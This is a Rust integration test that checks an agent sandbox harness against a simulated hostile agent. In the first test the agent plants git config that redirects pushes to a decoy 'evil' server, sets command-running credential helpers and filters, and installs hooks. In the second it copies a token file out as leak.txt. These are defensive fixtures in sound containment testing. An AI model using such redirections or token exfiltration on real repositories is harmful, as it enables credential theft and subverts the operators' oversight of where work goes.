//! An agent that plants git config and hooks in its work tree, or whose repository holds the
//! token: the push still goes only where push.toml says, nothing planted runs, and no artifact
//! holding the token is written. Real engine and a real git smart-HTTP server; never skipped.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    reason = "test helpers: a panic is a failed test"
)]

mod common;
mod support;

use std::time::{Duration, SystemTime};

use support::git_server::Grant;
use support::leaks::assert_tree_clean;
use support::provider::{test_token, Provider};
use support::world::{PushWorld, GATE};

const HOUR: Duration = Duration::from_secs(3600);

fn granted(w: &PushWorld, token: &str) {
    w.git.grant(
        token,
        Grant {
            repo: "tasks.git".into(),
            expires: SystemTime::now() + HOUR,
            ref_prefix: "refs/heads/agent/".into(),
        },
    );
}

#[test]
fn planted_git_config_and_hooks_change_neither_target_nor_what_runs() {
    let w = PushWorld::new();
    // Two decoys (a rewritten remote and a proxy) that count every request they get.
    let evil_hits = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let decoy = || {
        let hits = evil_hits.clone();
        support::http::Server::start(std::sync::Arc::new(move |_req| {
            hits.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
            support::http::Resp::empty(502)
        }))
    };
    let (evil, evil_proxy) = (decoy(), decoy());
    let canary = |n: &str| w.fixtures.join(format!("canary-{n}")).display().to_string();
    let real = w.git.server.url("/");
    let config = format!(
        "[remote \"origin\"]\n\turl = {evil}/tasks.git\n\tpushurl = {evil}/tasks.git\n\
         [url \"{evil}/\"]\n\tinsteadOf = {real}\n\tpushInsteadOf = {real}\n\
         [http]\n\tproxy = {proxy}\n\textraHeader = X-Planted: 1\n\
         [credential]\n\thelper = \"!touch {c1}\"\n\
         [core]\n\tfsmonitor = \"touch {c2}\"\n\tsshCommand = \"touch {c3}\"\n\taskPass = \"touch {c4}\"\n\thooksPath = .git/hooks\n\
         [filter \"evil\"]\n\tclean = \"touch {c5}\"\n\tsmudge = \"touch {c5}\"\n\
         [push]\n\tdefault = matching\n",
        evil = evil.url(""),
        proxy = evil_proxy.url(""),
        c1 = canary("helper"),
        c2 = canary("fsmonitor"),
        c3 = canary("ssh"),
        c4 = canary("askpass"),
        c5 = canary("filter"),
    );
    let hook = format!("#!/bin/sh\ntouch {}\n", canary("hook"));
    let script = format!(
        "set -e; mkdir -p .git/hooks; cat > .git/config <<'EOF_'\n{config}EOF_\n\
         for h in pre-push pre-receive post-update reference-transaction push-to-checkout post-commit pre-commit; do \
           printf '%s' '{hook}' > .git/hooks/$h; chmod +x .git/hooks/$h; done; \
         printf '* filter=evil\\n' > .gitattributes; echo planted > planted.txt"
    );
    let token = test_token();
    let provider = Provider::new(
        &w.fixtures.join("provider"),
        &token,
        SystemTime::now() + HOUR / 2,
    );
    granted(&w, &token);
    w.push_toml(&provider.toml(), "");
    let ran = w.run(&w.world.spec("L3", &["sh", "-c", &script], GATE), &[], &[]);
    assert_eq!(ran.code, 0, "{}\n{}", ran.stderr, ran.stdout);
    let branch = ran.summary()["branch"].as_str().unwrap().to_string();
    let commit = w
        .git
        .ref_of("tasks.git", &format!("refs/heads/{branch}"))
        .expect("pushed to the pinned remote");
    assert_eq!(
        w.git
            .git("tasks.git", &["show", &format!("{commit}:planted.txt")]),
        "planted\n"
    );
    assert_eq!(w.git.receive_packs(), 1);
    assert_eq!(
        evil_hits.load(std::sync::atomic::Ordering::SeqCst),
        0,
        "a planted remote or proxy was used"
    );
    let kept = w.world.state.join("tasks").join(ran.task_id());
    let planted = std::fs::read_to_string(kept.join("upper/.git/config")).unwrap_or_default();
    assert!(
        planted.contains("insteadOf"),
        "the agent's plant did not happen: {planted:?}"
    );
    for c in ["helper", "fsmonitor", "ssh", "askpass", "filter", "hook"] {
        assert!(
            !std::path::Path::new(&canary(c)).exists(),
            "canary {c} exists: something ran"
        );
    }
    let pushed_config = std::fs::read_to_string(kept.join("branch.git/config")).unwrap();
    assert!(
        !pushed_config.contains("evil") && !pushed_config.contains("insteadOf"),
        "{pushed_config}"
    );
    assert_tree_clean(&w.world.state, &token);
    w.cleanup(&ran);
}

#[test]
fn a_token_found_in_an_artifact_ends_error_and_that_file_is_not_bundled() {
    // An operator's static token that is also in the repository: the agent can see it, print it
    // and copy it. Whatever holds it is removed before the bundle is written.
    let token = test_token();
    let world = common::World::with_files(&[
        ("README.md", "hello\n"),
        ("deploy.cfg", &format!("token={token}\n")),
    ]);
    let w = PushWorld::from_world(world);
    let provider = Provider::new(
        &w.fixtures.join("provider"),
        &token,
        SystemTime::now() + HOUR / 2,
    );
    granted(&w, &token);
    w.push_toml(&provider.toml(), "");
    let agent = "cat deploy.cfg; cp deploy.cfg /airlock/out/leak.txt; echo more >> deploy.cfg";
    let ran = w.run(&w.world.spec("L3", &["sh", "-c", agent], GATE), &[], &[]);
    assert_eq!(ran.code, 4, "{}", ran.stderr);
    assert_eq!(
        ran.state_reason(),
        ("error".into(), "secret_in_artifact".into())
    );
    let msg = ran.summary()["message"].as_str().unwrap().to_string();
    for f in ["diff.patch", "logs/agent-1.log", "out/leak.txt"] {
        assert!(msg.contains(f), "{f} not named in: {msg}");
        assert!(!w.artifacts_of(&ran).join(f).exists(), "{f} was written");
    }
    let listing = common::sh(
        &w.artifacts_of(&ran),
        &format!("tar -tzf {}.tar.gz", ran.task_id()),
    );
    assert!(
        listing.contains("summary.json")
            && !listing.contains("diff.patch")
            && !listing.contains("leak.txt"),
        "{listing}"
    );
    assert!(w
        .world
        .artifact(&ran, "evidence.md")
        .contains("secret_in_artifact"));
    assert_tree_clean(&w.world.artifacts, &token);
    w.cleanup(&ran);
}
